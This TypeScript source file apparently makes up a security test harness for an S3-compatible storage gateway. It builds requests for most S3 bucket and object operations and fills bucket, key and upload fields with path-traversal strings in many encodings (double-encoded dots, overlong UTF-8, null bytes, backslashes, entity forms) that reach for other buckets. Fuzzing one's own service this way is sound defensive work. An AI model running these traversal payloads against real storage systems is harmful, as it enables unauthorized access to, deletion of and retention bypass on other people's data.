/** Requests of S3 that climb: every operation, with texts that lead elsewhere in each place that a text has, in every
 *  spelling. */

export interface Attack {
  readonly method: string
  /** As in the request line. */
  readonly target: string
  readonly headers: Readonly<Record<string, string>>
  readonly body: string
}

/** `B` is the attacker's bucket, `K` a key and `U` an upload of it; each is replaced in turn. */
export const ASKED: readonly (readonly [method: string, target: string, headers?: string, body?: string])[] = [
  ['GET', '/'],
  ['GET', '/?prefix=B&max-buckets=9&continuation-token=K'],
  ['PUT', '/B'],
  [
    'PUT',
    '/B',
    '',
    '<CreateBucketConfiguration><LocationConstraint>K</LocationConstraint></CreateBucketConfiguration>',
  ],
  ['HEAD', '/B'],
  ['DELETE', '/B'],
  ['GET', '/B?prefix=K&delimiter=K&marker=K&max-keys=9&encoding-type=url'],
  ['GET', '/B?list-type=2&prefix=K&delimiter=K&start-after=K&continuation-token=K&fetch-owner=true'],
  ['GET', '/B?versions&prefix=K&delimiter=K&key-marker=K&version-id-marker=V'],
  ['GET', '/B?uploads&prefix=K&delimiter=K&key-marker=K&upload-id-marker=U'],
  ['POST', '/B?delete', '', '<Delete><Object><Key>K</Key></Object></Delete>'],
  ['POST', '/B?delete', '', '<Delete><Object><Key>k</Key><VersionId>V</VersionId></Object></Delete>'],
  ['POST', '/B?delete', '', '<Delete><Object><Key>k</Key></Object><Object><Key>K</Key></Object></Delete>'],
  ['POST', '/B?delete&uploadId=U', '', '<Delete><Object><Key>K</Key></Object></Delete>'],
  ['POST', '/B', 'content-type=multipart/form-data; boundary=x', formOf('K')],
  ...['location', 'versioning', 'object-lock', 'tagging', 'cors', 'acl', 'policy', 'policyStatus', 'lifecycle']
    .concat('ownershipControls', 'website', 'encryption', 'publicAccessBlock', 'requestPayment', 'notification')
    .concat('replication', 'logging', 'accelerate', 'inventory&id=K', 'analytics&id=K', 'metrics&id=K', 'session')
    .flatMap((part) => [
      ['GET', `/B?${part}`] as const,
      ['DELETE', `/B?${part}`] as const,
      ['PUT', `/B?${part}`, '', '<X><Id>K</Id></X>'] as const,
    ]),
  ['PUT', '/B?tagging', '', '<Tagging><TagSet><Tag><Key>K</Key><Value>K</Value></Tag></TagSet></Tagging>'],
  ['PUT', '/B?versioning', '', '<VersioningConfiguration><Status>K</Status></VersioningConfiguration>'],
  [
    'PUT',
    '/B?cors',
    '',
    '<CORSConfiguration><CORSRule><AllowedMethod>GET</AllowedMethod><AllowedOrigin>K</AllowedOrigin></CORSRule>' +
      '</CORSConfiguration>',
  ],
  [
    'PUT',
    '/B?object-lock',
    '',
    '<ObjectLockConfiguration><ObjectLockEnabled>K</ObjectLockEnabled></ObjectLockConfiguration>',
  ],
  ['GET', '/B/K?versionId=V&response-content-type=K', 'range=bytes=0-1'],
  ['GET', '/B/K?partNumber=1'],
  ['HEAD', '/B/K?versionId=V'],
  ['PUT', '/B/K', 'x-amz-tagging=K;x-amz-meta-k=K;x-amz-website-redirect-location=K;content-encoding=K', 'x'],
  ['PUT', '/B/K', 'x-amz-storage-class=K;x-amz-acl=K;x-amz-object-lock-mode=K', 'x'],
  ['PUT', '/B/k', 'x-amz-copy-source=B/K;x-amz-metadata-directive=K'],
  ['PUT', '/B/K', 'x-amz-copy-source=B/k'],
  ['PUT', '/B/k', 'x-amz-copy-source=B/k?versionId=V'],
  ['PUT', '/B/k', 'x-amz-copy-source=B/k;x-amz-copy-source-range=K'],
  ['DELETE', '/B/K?versionId=V', 'x-amz-bypass-governance-retention=true'],
  ['GET', '/B/K?tagging&versionId=V'],
  [
    'PUT',
    '/B/K?tagging&versionId=V',
    '',
    '<Tagging><TagSet><Tag><Key>K</Key><Value>K</Value></Tag></TagSet></Tagging>',
  ],
  ['DELETE', '/B/K?tagging&versionId=V'],
  ['GET', '/B/K?retention&versionId=V'],
  [
    'PUT',
    '/B/K?retention&versionId=V',
    'x-amz-bypass-governance-retention=true',
    '<Retention><Mode>GOVERNANCE</Mode><RetainUntilDate>2090-01-01T00:00:00Z</RetainUntilDate></Retention>',
  ],
  ['GET', '/B/K?legal-hold&versionId=V'],
  ['PUT', '/B/K?legal-hold&versionId=V', '', '<LegalHold><Status>OFF</Status></LegalHold>'],
  ['GET', '/B/K?acl&versionId=V'],
  ['PUT', '/B/K?acl&versionId=V', 'x-amz-acl=private'],
  ['GET', '/B/K?attributes&versionId=V', 'x-amz-object-attributes=ETag'],
  ['GET', '/B/K?torrent'],
  ['POST', '/B/K?restore', '', '<RestoreRequest><Days>1</Days></RestoreRequest>'],
  [
    'POST',
    '/B/K?select&select-type=2',
    '',
    '<SelectObjectContentRequest><Expression>K</Expression></SelectObjectContentRequest>',
  ],
  ['POST', '/B/K?uploads', 'x-amz-tagging=K'],
  ['PUT', '/B/K?partNumber=1&uploadId=U', '', 'x'],
  ['PUT', '/B/k?partNumber=K&uploadId=U', '', 'x'],
  ['PUT', '/B/K?partNumber=1&uploadId=U', 'x-amz-copy-source=B/K;x-amz-copy-source-range=bytes=0-0'],
  [
    'POST',
    '/B/K?uploadId=U',
    '',
    '<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>K</ETag></Part></CompleteMultipartUpload>',
  ],
  ['DELETE', '/B/K?uploadId=U'],
  ['GET', '/B/K?uploadId=U&part-number-marker=1'],
  ['DELETE', '/B/K?UploadId=U'],
  ['DELETE', '/B/K?uploadId=u&uploadId=U'],
  ['PUT', '/B/K?partNumber=1&uploadId=u&uploadId=U', '', 'x'],
]

function formOf(key: string): string {
  const fields = Object.entries({ key, policy: 'e30=', 'file"; filename="f': 'x' })
  const parts = fields.map(([name, value]) => `Content-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`)
  return `--x\r\n${parts.join('--x\r\n')}--x--\r\n`
}

export interface Scene {
  readonly bucket: string
  readonly uploadId: string
  /** Where texts lead, from the folder of a bucket: `other bucket/key` and the like. */
  readonly destinations: readonly string[]
}

const hex = (sign: string): string => sign.charCodeAt(0).toString(16).padStart(2, '0')
const DOTS: readonly string[] = [
  '..',
  '.',
  '',
  '%2e%2e',
  '%2E.',
  '%252e%252e',
  '..%00',
  '%00..',
  '..\\',
  '%5c..',
  '..;',
  '%c0%ae%c0%ae',
  '%e0%80%ae.',

  '%uff0e%uff0e',
  '\u2025',
  '%ef%bc%8e%ef%bc%8e',
  '.%0d.',
  '.%09.',
  '..%20',
  '&#46;&#46;',
  '&#x2e;.',
  '<![CDATA[..]]>',
  '.<!-- -->.',
  '.<?x?>.',
  '&dots;',
  '.sgwtmp',
  '.sgwtmp/multipart',
  'x/..',
  './..',
]
const SLASHES = ['/', '%2f', '%252f', '\\', '//', '%5c', '&#47;', '%c0%af', '/./']

/** Paths to the destination, up to eight folders up. */
export function spellings(destination: string): readonly string[] {
  const texts: string[] = []
  for (const dots of DOTS) for (const depth of [1, 3, 5]) texts.push(`${`${dots}/`.repeat(depth)}${destination}`)
  for (const slash of SLASHES)
    for (const depth of [1, 2, 4]) texts.push(`${`..${slash}`.repeat(depth)}${destination.replaceAll('/', slash)}`)
  const climbing = `../../${destination}`
  const escaped = [...climbing].map((sign) => `%${hex(sign)}`).join('')
  return [
    ...texts,
    `/${destination}`,
    `//${destination}`,
    `a/../../${destination}`,
    escaped,
    escaped.replaceAll('%', '%25'),
  ]
}

/** Headers of a request, from the lines of the list. */
export const headersOf = (lines: string, fill: (text: string) => string): Readonly<Record<string, string>> =>
  Object.fromEntries(
    lines
      .split(';')
      .filter((line) => line.includes('='))
      .map((line) => {
        const index = line.indexOf('=')
        return [line.slice(0, index), encodeText(fill(line.slice(index + 1)))]
      }),
  )

/** All attacks for the scene; bounded by the lists above. `share` of them, by turns: 1 for all. */
export function* attacks({ bucket, uploadId, destinations }: Scene, share: number): Generator<Attack> {
  const plain = { B: bucket, K: 'k', U: uploadId, V: 'null' }
  let turn = 0
  for (const destination of destinations)
    for (const text of spellings(destination))
      for (const [method, target, headers = '', body = ''] of ASKED) {
        const template = [target, headers, body].join('\n')
        for (const place of ['B', 'K', 'U', 'V'] as const) {
          if (!new RegExp(`\\b${place}\\b`).test(template)) continue
          turn += 1
          if (turn % share !== 0) continue
          const fill = (part: string): string =>
            part.replaceAll(/\b[BKUVu]\b/g, (name) =>
              name === place ? text : name === 'u' ? uploadId : plain[name as keyof typeof plain],
            )
          yield {
            method,
            target: fill(target).replaceAll(/[^!-~]/g, (sign) => encodeURIComponent(sign)),
            headers: headersOf(headers, fill),
            body: fill(body),
          }
        }
      }
}

const encodeText = (text: string): string => text.replaceAll(/[^ -~]/g, (sign) => encodeURIComponent(sign))
